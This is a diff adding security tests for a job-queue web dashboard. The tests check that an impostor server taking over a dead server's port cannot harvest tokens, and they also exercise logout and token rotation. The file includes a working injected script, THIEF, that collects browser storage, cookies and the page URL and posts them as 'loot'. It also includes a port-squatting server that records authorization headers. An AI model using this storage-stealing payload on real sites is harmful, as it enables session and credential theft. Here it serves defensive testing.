@@ -1,0 +1,136 @@
+/** Another program takes the port of a server that has ended, while dashboards are still open. */
+import { afterAll, beforeAll, expect, test } from 'bun:test';
+import { readFileSync } from 'node:fs';
+import { createServer, type IncomingHttpHeaders } from 'node:http';
+import { join } from 'node:path';
+import type { Browser, Page } from 'playwright-core';
+import { launch, logIn, openDashboard } from '../support/browser.ts';
+import { reach } from '../support/http.ts';
+import { enqueue, inSandbox, type Sandbox, until } from '../support/queuectl.ts';
+
+let browser: Browser;
+beforeAll(async () => {
+  browser = await launch();
+});
+afterAll(() => browser.close());
+
+/** Sends everything that a page of this origin can read to whoever serves it. */
+const THIEF = `<script>
+  (async () => {
+    const databases = await indexedDB.databases();
+    const caches_ = self.caches ? await caches.keys() : [];
+    const loot = { local: { ...localStorage }, session: { ...sessionStorage }, cookie: document.cookie,
+      href: location.href, databases, caches: caches_ };
+    await fetch('/loot', { method: 'POST', body: JSON.stringify(loot) });
+  })();
+</script>`;
+
+interface Impostor {
+  /** All that was sent to it. */
+  heard: { url: string; headers: IncomingHttpHeaders; body: string }[];
+  close(): Promise<void>;
+}
+
+async function takePort(port: number): Promise<Impostor> {
+  const heard: Impostor['heard'] = [];
+  const server = createServer((incoming, outgoing) => {
+    let body = '';
+    incoming.on('data', (data) => {
+      body += data;
+    });
+    incoming.on('end', () => {
+      heard.push({ url: incoming.url!, headers: incoming.headers, body });
+      const isPage = incoming.headers.accept?.includes('text/html') ?? false;
+      outgoing.writeHead(200, { 'content-type': isPage ? 'text/html' : 'application/json' });
+      outgoing.end(isPage ? THIEF : '{}');
+    });
+  });
+  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
+  return {
+    heard,
+    close: () =>
+      new Promise((resolve) => {
+        server.close(() => resolve());
+        server.closeAllConnections();
+      }),
+  };
+}
+
+const tokensOf = (box: Sandbox): string[] =>
+  ['token', 'token-read-only'].map((name) => readFileSync(join(box.home, 'queue.db.d', name), 'utf8').trim());
+
+/** Everything that a page of this origin has stored. */
+const stored = (page: Page): Promise<string> =>
+  page.evaluate(`(async () => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie,
+    await indexedDB.databases(), await caches.keys(), location.href, history.state]))()`);
+
+test(
+  'the next program on the port learns no token, and nothing that another server accepts',
+  inSandbox(async (box) => {
+    const { page, origin, token, kill } = await openDashboard(box, browser);
+    await page.locator('.live-live').waitFor();
+    // Another tab of the browser is logged in without a token.
+    const second = await page.context().newPage();
+    await second.goto(`${origin}/jobs`);
+    await second.getByText('There is no job yet').waitFor();
+    const tokens = tokensOf(box);
+    expect(tokens).toContain(token);
+    for (const tab of [page, second]) for (const one of tokens) expect(await stored(tab)).not.toContain(one);
+    expect(await page.context().cookies()).toEqual([]);
+
+    await kill();
+    const port = Number(new URL(origin).port);
+    const impostor = await takePort(port);
+    await until(() => impostor.heard.some(({ headers }) => headers.authorization), 'an open tab asks it');
+    await page.reload();
+    await until(() => impostor.heard.some(({ url }) => url === '/loot'), 'its page reads the storage');
+    await impostor.close();
+
+    const all = JSON.stringify(impostor.heard);
+    for (const one of tokens) expect(all).not.toContain(one);
+    const loot = JSON.parse(impostor.heard.find(({ url }) => url === '/loot')!.body);
+    expect([loot.session, loot.cookie, loot.databases, loot.caches]).toEqual([{}, '', [], []]);
+    const next = await reach(box.start(['serve', '--port', String(port)]));
+    expect(next.token).toBe(token);
+    // Each word of what it was sent, as a token and as a session.
+    const words = new Set(all.match(/[\w-]{20,}/g));
+    expect([...words].some((word) => /^[0-9a-f]{12}-[\w-]{43}$/.test(word))).toBe(true);
+    for (const word of words) {
+      const read = await next.call('GET', '/api/v1/jobs', { token: word });
+      const entered = await next.call('POST', '/api/v1/session', { token: word });
+      expect([401, 429]).toContain(read.status);
+      expect([401, 429]).toContain(entered.status);
+    }
+    // The owner logs in again in one tab, and the other follows.
+    await page.goto(`${origin}/jobs`);
+    await logIn(page, token, 'The server was restarted');
+    await second.goto(`${origin}/jobs`);
+    await enqueue(box, 'seen', 'true');
+    for (const tab of [page, second]) await tab.locator('[data-row="seen"]').waitFor();
+  }),
+);
+
+test(
+  'logout in one tab ends the session of all, also on the server; login in one tab is one in all',
+  inSandbox(async (box) => {
+    const { page, origin, token } = await openDashboard(box, browser);
+    const second = await page.context().newPage();
+    await second.goto(`${origin}/jobs`);
+    await second.locator('.frame').waitFor();
+    const secret = JSON.parse(await stored(page))[0]['queuectl-session '];
+    const headers = { authorization: `Bearer ${secret}` };
+    expect((await fetch(`${origin}/api/v1/jobs`, { headers })).status).toBe(200);
+    await second.getByRole('button', { name: 'Log out' }).click();
+    for (const tab of [page, second]) await tab.getByText('You have logged out').waitFor();
+    expect((await fetch(`${origin}/api/v1/jobs`, { headers })).status).toBe(401);
+    await logIn(page, `${origin}/#token=${token}`, 'You have logged out');
+    await second.locator('.frame').waitFor();
+    // A new token ends it by itself.
+    box.start(['serve', '--port', '0', '--rotate-token']);
+    for (const tab of [page, second]) await tab.getByText('Your session has ended').waitFor();
+    // The read-only token gives a read-only dashboard on a full server.
+    await logIn(page, tokensOf(box)[1]!, 'Your session has ended');
+    await page.getByText('read-only', { exact: true }).waitFor();
+    expect(await page.getByRole('button', { name: 'New job' }).count()).toBe(0);
+  }),
+);
